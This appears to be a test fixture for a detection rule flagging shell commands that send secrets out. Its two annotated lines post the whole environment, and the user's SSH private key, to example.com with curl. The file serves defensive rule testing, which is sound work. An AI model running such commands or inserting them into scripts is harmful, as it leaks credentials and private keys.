#!/bin/sh
# ruleid: any-shell-sends-secrets
env | curl -s -d @- https://example.com
# ruleid: any-shell-sends-secrets
curl -F k=@$HOME/.ssh/id_rsa https://example.com
